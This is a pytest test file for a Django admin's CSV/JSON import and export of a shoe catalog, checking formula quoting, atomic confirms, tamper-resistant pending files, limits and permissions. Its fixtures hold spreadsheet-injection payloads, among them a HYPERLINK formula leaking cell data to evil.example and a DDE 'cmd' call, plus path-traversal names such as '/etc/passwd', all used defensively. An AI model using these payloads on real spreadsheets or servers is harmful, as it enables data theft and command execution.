"""
CSV/JSON import and export through the admin (issue 11): formulae never reach a spreadsheet,
a confirm saves every row or none, the pending file cannot be named by the client and is
read on any app server, large files are refused up front, and every problem row is named.
"""

import csv
import io
import json
import os
import re
import stat
import tempfile
import time
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission, User
from django.core import signing
from django.core.cache import cache
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse

from catalog.models import Collaboration, Shoe, Technology, TrendNote
from catalog.models.versioning import record_change
from catalog.resources import (
    CollaborationResource,
    MilestoneResource,
    PartnerResource,
    ShoeResource,
    TrendNoteResource,
)

from .admin_forms import CSV_FORMAT, JSON_FORMAT, preview, upload
from .factories import (
    CitationFactory,
    CollaborationFactory,
    MilestoneFactory,
    PartnerFactory,
    ShoeFactory,
    TechnologyFactory,
    TrendNoteFactory,
)

pytestmark = pytest.mark.django_db

SHOE_HEADER = (
    "slug,name,colorway,kind,colour_family,palette,release_date,date_precision,currency,"
    "summary,status,retail_price,style_code,technologies,collaboration\n"
)


def shoe_row(slug, style_code="", technologies="", collaboration="", retail_price="180"):
    return (
        f'{slug},{slug.replace("-", " ").title()},White/Navy,general,white,"#ffffff, #1f2b45",'
        f"2025-06-01,month,USD,An imported pair.,published,{retail_price},{style_code},"
        f"{technologies},{collaboration}\n"
    )


@pytest.fixture(autouse=True)
def _own_temp_folder(monkeypatch, tmp_path):
    """This app server's temporary folder: a fresh one, so nothing is left in /tmp."""
    folder = tmp_path / "server-a-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))


def page_text(response):
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.content.decode()))


def confirm_data(response):
    """The confirm form exactly as the preview page renders it."""
    form = response.context["confirm_form"]
    return {field.name: field.value() for field in form}


def confirm(client, data, model="shoe"):
    return client.post(reverse(f"admin:catalog_{model}_process_import"), data, follow=True)


def export(client, model, resource, fmt=CSV_FORMAT):
    fields = {f"{resource.__name__.lower()}_{name}": True for name in resource().get_export_order()}
    response = client.post(
        reverse(f"admin:catalog_{model}_export"), {"format": fmt, "resource": "0", **fields}
    )
    assert response.status_code == 200
    return response.content.decode()


def pending_files():
    folder = "django-import-export"
    return default_storage.listdir(folder)[1] if default_storage.exists(folder) else []


# Formulae on export

FORMULAE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "colorway": "=cmd|' /C calc'!A0",
    "designer": "+SUM(1,1)",
    "style_code": "-2+3",
    "summary": "@SUM(A1:A9)",
    "story": "\t=1+1",
    "picture_alt": "'=already quoted",
}


def test_csv_export_quotes_every_cell_a_spreadsheet_would_run(admin_client):
    ShoeFactory(slug="formula-pair", **FORMULAE)
    rows = list(csv.DictReader(io.StringIO(export(admin_client, "shoe", ShoeResource))))
    for field, typed in FORMULAE.items():
        assert rows[0][field] == "'" + typed, field
        assert rows[0][field][0] not in "=+-@\t\r"


@pytest.mark.parametrize(
    ("model", "factory", "resource", "field"),
    [
        ("partner", PartnerFactory, PartnerResource, "city"),
        ("collaboration", CollaborationFactory, CollaborationResource, "title"),
        ("trendnote", TrendNoteFactory, TrendNoteResource, "title"),
        ("milestone", MilestoneFactory, MilestoneResource, "title"),
    ],
)
def test_every_csv_export_quotes_formulae(admin_client, model, factory, resource, field):
    factory(**{field: '=HYPERLINK("http://evil.example","x")'})
    row = next(csv.DictReader(io.StringIO(export(admin_client, model, resource))))
    assert row[field] == '\'=HYPERLINK("http://evil.example","x")'


def test_json_export_keeps_text_as_typed(admin_client):
    ShoeFactory(slug="formula-pair", **FORMULAE)
    (row,) = json.loads(export(admin_client, "shoe", ShoeResource, fmt=JSON_FORMAT))
    assert {field: row[field] for field in FORMULAE} == FORMULAE


@pytest.mark.parametrize(("fmt", "name"), [(CSV_FORMAT, "shoes.csv"), (JSON_FORMAT, "shoes.json")])
def test_an_export_imports_back_unchanged(admin_client, fmt, name):
    shoe = ShoeFactory(
        slug="formula-pair",
        retail_price=Decimal("700"),
        retail_price_qualifier="over",
        collaboration=CollaborationFactory(slug="kith"),
        **FORMULAE,
    )
    shoe.technologies.add(TechnologyFactory(slug="gel"), TechnologyFactory(slug="ahar"))
    CitationFactory(entry=shoe, field="retail_price")
    exported = export(admin_client, "shoe", ShoeResource, fmt=fmt)
    Shoe.objects.filter(pk=shoe.pk).update(name="Changed", story="Changed")

    response = preview(admin_client, exported, name=name, fmt=fmt)
    assert "Confirm import" in page_text(response), page_text(response)
    confirm(admin_client, confirm_data(response))
    shoe.refresh_from_db()
    assert {field: getattr(shoe, field) for field in FORMULAE} == FORMULAE
    assert shoe.retail_price_qualifier == "over"
    assert {t.slug for t in shoe.technologies.all()} == {"gel", "ahar"}
    assert shoe.citations.count() == 1


@pytest.mark.parametrize(
    ("model", "factory", "resource"),
    [
        ("shoe", ShoeFactory, ShoeResource),
        ("collaboration", CollaborationFactory, CollaborationResource),
        ("partner", PartnerFactory, PartnerResource),
        ("trendnote", TrendNoteFactory, TrendNoteResource),
        ("milestone", MilestoneFactory, MilestoneResource),
    ],
)
@pytest.mark.parametrize("fmt", [CSV_FORMAT, JSON_FORMAT])
def test_every_model_exports_with_citations_and_qualifiers(
    admin_client, model, factory, resource, fmt
):
    entry = factory(slug="exported-entry")
    CitationFactory(entry=entry, claim="A claim.")
    content = export(admin_client, model, resource, fmt=fmt)
    assert "exported-entry" in content
    if model in ("shoe", "collaboration"):
        assert "resale_peak_qualifier" in content
    assert "edit_version" not in content


# Confirm: every row or none


def shoes_with_gel():
    TechnologyFactory(slug="gel")
    return SHOE_HEADER + shoe_row("first-pair") + shoe_row("second-pair", "1011B999-100", "gel")


def take_style_code():
    ShoeFactory(slug="someone-elses-pair", style_code="1011B999-100")


def delete_technology():
    Technology.objects.filter(slug="gel").delete()


def test_a_confirm_after_another_editor_saved_writes_nothing_over_it(admin_client):
    """Another editor rewrites the story while the preview waits: the confirm would put
    the file's story back over theirs, so it imports nothing and asks for a new preview."""
    shoe = ShoeFactory(slug="first-pair", story="Old story.")
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("first-pair")))
    shoe.story = "Their story."
    shoe.save()
    record_change()  # what their save records as it commits (tests never commit)

    text = page_text(confirm(admin_client, data))

    assert "“first-pair” changed after your preview" in text
    assert Shoe.objects.get(slug="first-pair").story == "Their story."
    assert pending_files() == []


def test_a_confirm_after_another_editor_made_an_entry_of_the_file_writes_nothing(admin_client):
    """The preview showed a new entry; meanwhile another editor made one with its slug, which
    the confirm would overwrite."""
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("first-pair")))
    ShoeFactory(slug="first-pair", story="Their story.")
    record_change()

    text = page_text(confirm(admin_client, data))

    assert "“first-pair” changed after your preview" in text
    assert Shoe.objects.get(slug="first-pair").story == "Their story."


def test_a_confirm_previewed_before_entries_were_signed_asks_for_the_file_again(admin_client):
    """A preview signed by the release before this one carries no entries to compare: the
    confirm cannot tell what changed, so it imports nothing."""
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("first-pair")))
    signer = signing.TimestampSigner(
        salt=f"catalog.importing.pending:{User.objects.get(username='admin').pk}"
    )
    pending = signer.unsign_object(data["import_file_name"])
    del pending["entries"]
    data["import_file_name"] = signer.sign_object(pending)

    text = page_text(confirm(admin_client, data))

    assert "upload the file again" in text
    assert not Shoe.objects.filter(slug="first-pair").exists()


def test_a_confirm_after_a_save_of_an_entry_not_in_the_file_imports(admin_client):
    """Another editor's save elsewhere in the catalog leaves the previewed rows as shown."""
    ShoeFactory(slug="first-pair", story="Old story.")
    other = ShoeFactory(slug="someone-elses-pair")
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("first-pair")))
    other.story = "Their story."
    other.save()
    record_change()

    text = page_text(confirm(admin_client, data))

    assert "Import finished" in text
    assert Shoe.objects.get(slug="first-pair").summary == "An imported pair."
    assert Shoe.objects.get(slug="someone-elses-pair").story == "Their story."


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (take_style_code, "Another shoe already has this style code."),
        (delete_technology, "No technology with the slug “gel”."),
    ],
)
def test_a_confirm_after_the_data_changed_saves_nothing(admin_client, change, reason):
    response = preview(admin_client, shoes_with_gel())
    data = confirm_data(response)
    change()
    response = confirm(admin_client, data)
    text = page_text(response)
    assert "Nothing was imported" in text
    assert reason in text
    assert "Import finished" not in text
    assert not Shoe.objects.filter(slug__in=["first-pair", "second-pair"]).exists()
    assert pending_files() == []


def test_a_confirm_saves_every_row_and_forgets_the_pending_file(admin_client):
    response = preview(admin_client, shoes_with_gel())
    response = confirm(admin_client, confirm_data(response))
    assert "Import finished: 2 new" in page_text(response)
    assert Shoe.objects.get(slug="second-pair").technologies.get().slug == "gel"
    assert pending_files() == []


# The pending file


def victim_csv():
    return SHOE_HEADER + shoe_row("victim-pair")


@pytest.fixture
def victims(tmp_path, settings):
    """Files a tampered confirm form might try to name: in the temporary and pending folders."""
    paths = [Path(tempfile.gettempdir()) / "victim.csv", Path(settings.MEDIA_ROOT) / "victim.csv"]
    for path in paths:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(victim_csv())
    default_storage.save("django-import-export/victim.csv", ContentFile(victim_csv().encode()))
    return paths


@pytest.mark.parametrize(
    "name",
    ["victim.csv", "../victim.csv", "django-import-export/victim.csv", "..", ".", "/etc/passwd"],
)
def test_a_tampered_confirm_cannot_read_or_delete_another_file(admin_client, victims, name):
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("own-pair")))
    data["import_file_name"] = name
    response = confirm(admin_client, data)
    assert response.status_code in (200, 400)
    assert "upload the file again" in page_text(response)
    assert not Shoe.objects.exists()
    assert all(path.exists() for path in victims)
    assert default_storage.exists("django-import-export/victim.csv")


# JSON objects are read by their keys


def shoe_object(slug, **fields):
    return {
        "slug": slug,
        "name": "Json pair",
        "colorway": "White/Navy",
        "designer": "",
        "kind": "general",
        "colour_family": "white",
        "palette": "#ffffff, #1f2b45",
        "summary": "An imported pair.",
        "status": "draft",
        **fields,
    }


def test_json_objects_listing_their_keys_in_another_order_keep_every_value_in_place(
    admin_client,
):
    """JSON gives an object's keys no order: a script or a hand edit may list them anyhow."""
    first = shoe_object("first-pair")
    second = dict(reversed(shoe_object("second-pair", designer="Hidenori Yamashita").items()))

    confirm(
        admin_client,
        confirm_data(preview(admin_client, json.dumps([first, second]), fmt=JSON_FORMAT)),
    )

    saved = Shoe.objects.get(slug="second-pair")
    assert (saved.colorway, saved.designer) == ("White/Navy", "Hidenori Yamashita")


def test_a_json_key_only_a_later_object_has_is_refused_by_its_number(admin_client):
    misspelt = {
        ("colourway" if key == "colorway" else key): value
        for key, value in shoe_object("second-pair").items()
    }
    content = json.dumps([shoe_object("first-pair"), misspelt])

    text = page_text(preview(admin_client, content, fmt=JSON_FORMAT))

    assert "Object 2 has colourway and has no colorway, unlike object 1" in text
    assert "Confirm import" not in text


def test_a_json_object_without_a_key_the_others_have_is_refused_by_its_number(admin_client):
    """A missing key would empty that field of an existing entry: the file is refused."""
    shorter = shoe_object("second-pair")
    del shorter["designer"]
    content = json.dumps([shoe_object("first-pair"), shorter])

    text = page_text(preview(admin_client, content, fmt=JSON_FORMAT))

    assert "Object 2 has no designer, unlike object 1" in text
    assert "Confirm import" not in text


@pytest.mark.parametrize("content", ['[["slug"], ["x"]]', '[{"slug": "x"}, 7]', '{"slug": "x"}'])
def test_a_json_file_that_is_not_a_list_of_objects_gets_a_clear_answer(admin_client, content):
    response = preview(admin_client, content, fmt=JSON_FORMAT)

    assert response.status_code == 200
    assert "a list of objects, one per entry" in page_text(response)
    assert not Shoe.objects.exists()


@pytest.mark.parametrize("fmt", ["99", "json", JSON_FORMAT])
def test_a_tampered_format_is_ignored(admin_client, fmt):
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("own-pair")))
    response = confirm(admin_client, {**data, "format": fmt, "resource": "7"})
    assert "Import finished: 1 new" in page_text(response)
    assert Shoe.objects.get().slug == "own-pair"


def test_a_preview_cannot_be_confirmed_by_another_editor(admin_client, client):
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("own-pair")))
    other = User.objects.create_superuser("other", password="another long password")
    client.force_login(other)
    response = confirm(client, data)
    assert "upload the file again" in page_text(response)
    assert not Shoe.objects.exists()
    # The editor who previewed it can still confirm it.
    confirm(admin_client, data)
    assert Shoe.objects.get().slug == "own-pair"


def test_a_confirm_works_on_another_app_server(admin_client, monkeypatch, tmp_path):
    response = preview(admin_client, shoes_with_gel())
    data = confirm_data(response)
    # Another server: its own temporary folder and its own process memory.
    other_tmp = tmp_path / "server-b-tmp"
    other_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(other_tmp))
    cache.clear()
    response = confirm(admin_client, data)
    assert "Import finished: 2 new" in page_text(response)
    assert Shoe.objects.filter(slug__in=["first-pair", "second-pair"]).count() == 2


def test_a_confirm_twice_imports_once(admin_client):
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("once-pair")))
    confirm(admin_client, data)
    response = confirm(admin_client, data)
    assert "upload the file again" in page_text(response)
    assert Shoe.objects.get().slug == "once-pair"


def test_a_preview_expires_after_a_day(admin_client, monkeypatch):
    data = confirm_data(preview(admin_client, SHOE_HEADER + shoe_row("late-pair")))
    a_day_later = time.time() + 24 * 3600 + 1
    monkeypatch.setattr(signing.time, "time", lambda: a_day_later)
    response = confirm(admin_client, data)
    assert "upload the file again" in page_text(response)
    assert not Shoe.objects.exists()


def test_a_pending_file_on_disk_is_readable_by_the_app_only(admin_client, settings):
    preview(admin_client, SHOE_HEADER + shoe_row("own-pair"))
    (name,) = pending_files()
    folder = Path(settings.MEDIA_ROOT) / "django-import-export"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / name).stat().st_mode) == 0o600


def test_pending_files_left_for_a_day_are_removed(admin_client, settings):
    folder = Path(settings.MEDIA_ROOT) / "django-import-export"
    folder.mkdir(parents=True)
    abandoned, recent = folder / "abandoned", folder / "recent"
    abandoned.write_text(victim_csv())
    recent.write_text(victim_csv())
    two_days_ago = time.time() - 2 * 24 * 3600
    os.utime(abandoned, (two_days_ago, two_days_ago))
    preview(admin_client, SHOE_HEADER + shoe_row("own-pair"))
    assert not abandoned.exists()
    assert recent.exists()


def test_a_preview_with_errors_leaves_no_pending_file(admin_client):
    response = preview(admin_client, SHOE_HEADER + shoe_row("bad-pair", collaboration="nowhere"))
    assert "Some rows failed to validate" in page_text(response)
    assert pending_files() == []


# Limits


def test_a_file_over_1_mb_is_refused_before_any_row_is_read(admin_client):
    story_column = SHOE_HEADER.replace("\n", ",story\n")
    content = story_column + shoe_row("big-pair").replace("\n", ",") + "x" * 1_100_000 + "\n"
    response = preview(admin_client, content)
    text = page_text(response)
    assert response.status_code == 200
    assert re.search(r"The file is 1,0\d\d KB; an import may be at most 1,024 KB\.", text)
    assert "Confirm import" not in text
    assert "Preview" not in text
    assert pending_files() == []


def test_a_file_over_500_rows_is_refused_before_any_row_is_read(admin_client):
    rows = "".join(shoe_row(f"pair-{number}") for number in range(501))
    response = preview(admin_client, SHOE_HEADER + rows)
    text = page_text(response)
    assert "The file has 501 rows; an import may have at most 500." in text
    assert "Confirm import" not in text
    assert pending_files() == []


# Problem rows


def test_every_problem_row_is_reported_with_its_number(admin_client):
    TechnologyFactory(slug="gel")
    content = SHOE_HEADER + "".join(
        [
            shoe_row("good-pair"),
            shoe_row("twice-pair"),
            shoe_row("twice-pair"),
            shoe_row("tech-pair", technologies="gel|no-such-tech"),
            shoe_row("collab-pair", collaboration="no-such-collab"),
        ]
    )
    response = preview(admin_client, content)
    text = page_text(response)
    assert "Some rows failed to validate" in text
    assert re.search(r" 3 1 slug The slug “twice-pair” is already in row 2 of this file", text)
    assert re.search(r" 4 1 technologies No technology with the slug “no-such-tech”", text)
    assert re.search(r" 5 1 collaboration No collaboration with the slug “no-such-collab”", text)
    assert "Traceback" not in text
    assert "Confirm import" not in text
    assert not Shoe.objects.exists()


@pytest.mark.parametrize(
    ("model", "content", "reported"),
    [
        (
            "collaboration",
            "slug,title,partner,kind,summary,status\n"
            "new-collab,New collab,no-such-partner,collaboration,A collab.,draft\n",
            r" 1 1 partner No partner with the slug “no-such-partner”",
        ),
        (
            "trendnote",
            "slug,title,theme,summary,body,status,shoes,collaborations\n"
            "new-note,New note,y2k,Why.,Words.,draft,no-such-shoe,no-such-collab|other\n",
            r" 1 2 shoes No shoe with the slug “no-such-shoe”\. collaborations "
            r"No collaborations with the slugs “no-such-collab”, “other”",
        ),
    ],
)
def test_unknown_related_slugs_are_reported_for_every_model(admin_client, model, content, reported):
    response = preview(admin_client, content, model=model)
    text = page_text(response)
    assert re.search(reported, text), text
    assert "Confirm import" not in text
    assert not Collaboration.objects.exists()
    assert not TrendNote.objects.exists()


def test_unknown_columns_are_named_without_a_traceback(admin_client):
    content = SHOE_HEADER.replace("colorway", "colourway").replace("\n", ",edit_version\n")
    response = preview(admin_client, content + shoe_row("typo-pair").replace("\n", ",1\n"))
    text = page_text(response)
    assert response.status_code == 200
    assert "Unknown columns: colourway, edit_version." in text
    assert "Traceback" not in text
    assert "Confirm import" not in text
    assert not Shoe.objects.exists()


@pytest.mark.parametrize("fmt", [CSV_FORMAT, JSON_FORMAT])
def test_a_file_without_a_slug_column_is_refused_clearly(admin_client, fmt):
    if fmt == CSV_FORMAT:
        content, name = "name,summary\nNo slug,A pair.\n", "noslug.csv"
    else:
        content, name = json.dumps([{"name": "No slug", "summary": "A pair."}]), "noslug.json"
    response = preview(admin_client, content, name=name, fmt=fmt)
    text = page_text(response)
    assert response.status_code == 200
    assert "The file has no slug column: rows are matched on their slug." in text
    assert "Traceback" not in text


def test_a_file_that_is_not_csv_is_refused_clearly(admin_client):
    response = preview(admin_client, b"\x89PNG\r\n\x1a\n\x00\x00binary", name="shoe.csv")
    assert response.status_code == 200
    assert "Traceback" not in page_text(response)
    assert "Confirm import" not in page_text(response)


# Permissions


def staff_with(*codenames):
    user = User.objects.create_user("staff", password="a long staff password", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    return user


def test_importing_needs_the_add_and_change_permissions(client):
    client.force_login(staff_with("view_shoe", "change_shoe"))
    assert client.get(reverse("admin:catalog_shoe_import")).status_code == 403
    response = client.post(
        reverse("admin:catalog_shoe_import"),
        {"import_file": upload(SHOE_HEADER + shoe_row("sneaky-pair")), "format": CSV_FORMAT},
    )
    assert response.status_code == 403
    assert not Shoe.objects.exists()


def test_exporting_needs_the_view_permission(client):
    ShoeFactory(slug="draft-pair")
    client.force_login(staff_with("view_partner"))
    response = client.post(
        reverse("admin:catalog_shoe_export"), {"format": CSV_FORMAT, "shoeresource_slug": True}
    )
    assert response.status_code == 403


def test_an_editor_can_preview_and_confirm_an_import(client):
    client.force_login(staff_with("view_shoe", "add_shoe", "change_shoe"))
    response = confirm(client, confirm_data(preview(client, SHOE_HEADER + shoe_row("ok-pair"))))
    assert "Import finished: 1 new" in page_text(response)
    assert Shoe.objects.get().slug == "ok-pair"


def test_the_search_document_is_neither_exported_nor_importable(admin_client):
    assert "search_document" not in ShoeResource().get_export_headers()
    header = "slug,name,kind,palette,summary,search_document\n"
    row = "imported,Imported,general,\"#ffffff, #000000\",A pair.,'anything':1A\n"
    response = preview(admin_client, header + row)
    assert "Unknown columns: search_document" in response.content.decode()
    assert not Shoe.objects.filter(slug="imported").exists()
